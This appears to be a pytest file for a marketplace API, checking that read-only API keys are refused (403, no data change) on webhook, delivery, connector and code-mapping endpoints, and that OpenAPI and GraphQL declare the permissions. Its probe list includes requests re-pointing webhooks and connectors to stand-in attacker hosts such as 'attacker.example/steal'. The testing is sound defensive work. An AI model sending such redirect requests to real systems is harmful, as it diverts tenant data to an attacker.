"""A key's scopes bound what it may do: a key with only capacity:read or orders:read may not
re-point, delete or create webhooks, read delivery bodies, replay deliveries, register or run
connectors, or create code mappings. Each probe is refused with 403 and changes nothing.

The declarations are visible where clients look: OpenAPI security and the GraphQL schema."""

from __future__ import annotations

import pytest

from capool.db import create_session_factory
from capool.tenancy import service as members
from tests.conftest import Member, World
from tests.integrations import tenancy_cases as integrations_cases
from tests.marketplace import tenancy_cases as marketplace_cases
from tests.tenancy import Ctx, snapshot

# (method, path, body, who holds the key): each needs a scope the probing key lacks.
PROBES = [
    ("PATCH", "/v1/webhooks/{endpoint}", {"url": "https://attacker.example/steal"}, "brand"),
    ("DELETE", "/v1/webhooks/{endpoint}", None, "brand"),
    ("POST", "/v1/webhooks", {"url": "https://attacker.example/hooks", "event_types": ["allocation.accepted"]}, "brand"),
    ("GET", "/v1/webhooks/{endpoint}/deliveries", None, "brand"),
    ("GET", "/v1/webhook-deliveries/{delivery}", None, "brand"),
    ("POST", "/v1/webhook-deliveries/{delivery}/replay", None, "brand"),
    ("POST", "/v1/code-mappings", {"system": "erp", "kind": "resource", "external_code": "X-1", "master_ref": "{resource}"}, "brand_ops"),
    ("DELETE", "/v1/code-mappings/{mapping}", None, "brand_ops"),
    ("POST", "/v1/connectors", {"name": "evil", "kind": "mes_push", "url": "https://mes.attacker.example/push"}, "brand_ops"),
    ("POST", "/v1/connectors/{connector}/run", None, "brand_ops"),
]


@pytest.fixture
async def seeded(client, world: World, db) -> Ctx:  # type: ignore[no-untyped-def]
    ctx = Ctx(client, world, db)
    await marketplace_cases.seed(ctx)
    await integrations_cases.seed(ctx)
    return ctx


async def _key(ctx: Ctx, member: Member, scopes: list[str]) -> dict[str, str]:
    async with create_session_factory(ctx.engine)() as session:
        issued = await members.issue_api_key(session, member.user_id, "narrow", scopes)
        await session.commit()
    return {"Authorization": f"Bearer {issued.token}"}


def _fill(value, ids: dict[str, str]):  # type: ignore[no-untyped-def]
    if isinstance(value, str):
        return value.format(**ids)
    if isinstance(value, dict):
        return {k: _fill(v, ids) for k, v in value.items()}
    return value


@pytest.mark.parametrize("scope", ["capacity:read", "orders:read"])
async def test_a_read_only_key_cannot_touch_integrations(client, db, world: World, seeded: Ctx, scope: str) -> None:
    for method, path, body, holder in PROBES:
        headers = await _key(seeded, getattr(world, holder), [scope])
        before = await snapshot(db)
        response = await client.request(method, _fill(path, seeded.ids), json=_fill(body, seeded.ids), headers=headers)
        assert response.status_code == 403, f"{method} {path} with {scope}: {response.status_code} {response.text}"
        assert response.headers["content-type"] == "application/problem+json"
        assert response.json()["code"] == "permission_denied"
        assert await snapshot(db) == before, f"{method} {path} with {scope} changed stored data"
        assert seeded.ids["delivery"] not in response.text and "erp.brand.example" not in response.text


async def test_the_refused_calls_succeed_with_the_scope(client, db, world: World, seeded: Ctx) -> None:
    """The refusals above are about the scope, not the route: the same member's key with the
    integration scopes may read the delivery body and re-point its webhook."""
    headers = await _key(seeded, world.brand, ["webhooks:read", "webhooks:write", "deliveries:read", "orders:read"])
    delivery = await client.get(f"/v1/webhook-deliveries/{seeded.ids['delivery']}", headers=headers)
    assert delivery.status_code == 200, delivery.text
    assert delivery.json()["body"]["type"] == "allocation.accepted"
    changed = await client.patch(f"/v1/webhooks/{seeded.ids['endpoint']}", json={"url": "https://erp2.brand.example/hooks"}, headers=headers)
    assert changed.status_code == 200, changed.text
    assert changed.json()["url"] == "https://erp2.brand.example/hooks"


async def test_openapi_and_the_graphql_schema_show_the_permission(client, world: World) -> None:
    document = (await client.get("/schema/openapi.json")).json()
    patch = document["paths"]["/v1/webhooks/{endpoint_id}"]["patch"]
    assert patch["security"] == [{"bearer": ["webhooks:write"]}, {"apiKey": ["webhooks:write"]}]
    assert document["paths"]["/v1/me"]["get"]["security"] == [{"bearer": []}, {"apiKey": []}]
    assert set(document["components"]["securitySchemes"]) == {"bearer", "apiKey"}
    from api.graphql.schema import build_schema

    sdl = str(build_schema())
    assert 'placeOrder(input: PlaceOrderInput!): OrderPayload! @requiresPermission(permissions: ["orders:write"])' in sdl


async def test_graphql_refuses_a_field_outside_the_key_scopes(client, db, world: World) -> None:
    headers = await _key(Ctx(client, world, db), world.brand, ["capacity:read"])
    before = await snapshot(db)
    mutation = """mutation($input: PlaceOrderInput!) { placeOrder(input: $input) { order { id } errors { code } } }"""
    variables = {"input": {"reference": "G-SCOPE", "product": "tee", "process": "screen_printing", "quantity": 3,
                           "dueAt": "2030-01-01T00:00:00Z", "currency": "CNY"}}
    response = await client.post("/graphql", json={"query": mutation, "variables": variables}, headers=headers)
    assert response.status_code == 200
    assert response.json()["data"]["placeOrder"] == {"order": None, "errors": [{"code": "PERMISSION_DENIED"}]}
    assert await snapshot(db) == before
    query = (await client.post("/graphql", json={"query": "{ orders { items { id } } }"}, headers=headers)).json()
    assert query["data"] is None
    assert [e["extensions"]["code"] for e in query["errors"]] == ["PERMISSION_DENIED"]
